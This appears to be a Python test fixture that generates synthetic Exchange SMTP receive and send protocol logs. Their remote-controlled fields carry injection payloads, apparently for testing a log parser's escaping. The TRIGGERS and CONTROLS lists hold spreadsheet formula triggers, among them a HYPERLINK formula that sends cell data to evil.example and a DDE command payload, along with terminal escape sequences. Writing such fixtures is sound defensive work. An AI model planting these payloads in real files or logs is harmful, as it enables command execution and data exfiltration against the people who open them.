# SPDX-License-Identifier: MIT
"""Protocol logs whose remote-controlled strings are formula triggers and
terminal control sequences (imported by strangers.py)."""

# Every spreadsheet formula trigger, and a DDE payload (as cells would start).
TRIGGERS = [
    '=HYPERLINK("http://evil.example/"&A1;"x")',
    "+1+cmd",
    "-1+cmd",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "_x0041_",  # not a trigger: Excel's own escape, shown as "A" unless escaped
]
# Terminal control sequences: ESC alone, BEL, CSI (7-bit and C1), OSC.
CONTROLS = [
    "\x1b",
    "a\x07b",
    "\x1b[2J\x1b[H",
    "x\u009b2Jy",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
]

HEAD = (
    "#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n"
    "#Log-type: SMTP {kind} Protocol Log\r\n#Date: 2024-05-02T10:00:00.000Z\r\n"
    "#Fields: date-time,connector-id,session-id,sequence-number,local-endpoint,"
    "remote-endpoint,event,data,context\r\n"
)


def q(field):
    """A CSV field as Exchange writes it: quoted when needed."""
    if any(c in field for c in ',"\r\n') or field != field.strip(" "):
        return '"' + field.replace('"', '""') + '"'
    return field


def rows(t0, conn, sid, local, remote, events):
    out = []
    for seq, (ev, data, ctx) in enumerate(events):
        ms = t0 + seq
        ts = "2024-05-02T10:%02d:%02d.%03dZ" % (ms // 60000 % 60, ms // 1000 % 60, ms % 1000)
        out.append(",".join([ts, q(conn), sid, str(seq), local, remote, ev, q(data), q(ctx)]))
    return out


def cert_row(subject):
    return ("*", " %s CN=Issuer CA, O=Example 0123456789ABCDEF 1596D69E98EAF4E65AD1A00333E1705FE05B18C4 "
            "2024-01-01T00:00:00.000Z 2025-01-01T00:00:00.000Z san.example" % subject,
            "Remote certificate Subject Issuer name Serial number Thumbprint Not before Not after "
            "Subject alternate names")


def payloads():
    return TRIGGERS + CONTROLS


def receive_log():
    """One receive session per payload: in the connector id, the EHLO name, the certificate subject."""
    lines = []
    for i, p in enumerate(payloads()):
        # The EHLO name is the first word after EHLO: keep payload words together.
        ehlo = p.replace(" ", "_")
        ev = [("+", "", ""), (">", "220 mx ready", ""), ("<", "EHLO " + ehlo, ""),
              (">", "250 mx Hello", ""), ("<", "STARTTLS", ""), (">", "220 2.0.0 SMTP server ready", ""),
              cert_row(p),
              ("*", "", "TLS protocol SP_PROT_TLS1_0_SERVER negotiation succeeded using bulk encryption "
               "algorithm CALG_AES_256 with strength 256 bits, MAC hash algorithm CALG_SHA1 with "
               "strength 160 bits and key exchange algorithm CALG_ECDHE with strength 256 bits"),
              ("-", "", "Local")]
        lines += rows(i * 1000, p, "08DC6A00000001%02X" % i, "10.0.0.1:25", "192.0.2.%d:4000" % (i + 1), ev)
    return HEAD.format(kind="Receive") + "\r\n".join(lines) + "\r\n"


def send_log():
    """One send session per payload: the host in the server's 220 reply, and the connector id."""
    lines = []
    for i, p in enumerate(payloads()):
        host = p.replace(" ", "_")
        ev = [("+", "", ""), ("<", "220 %s Microsoft ESMTP MAIL Service ready" % host, ""),
              (">", "EHLO ex.example", ""), ("<", "250 %s Hello" % host, ""), ("-", "", "Local")]
        lines += rows(i * 1000, p, "08DC6A00000002%02X" % i, "10.0.0.1:5000",
                      "198.51.100.%d:25" % (i + 1), ev)
    return HEAD.format(kind="Send") + "\r\n".join(lines) + "\r\n"
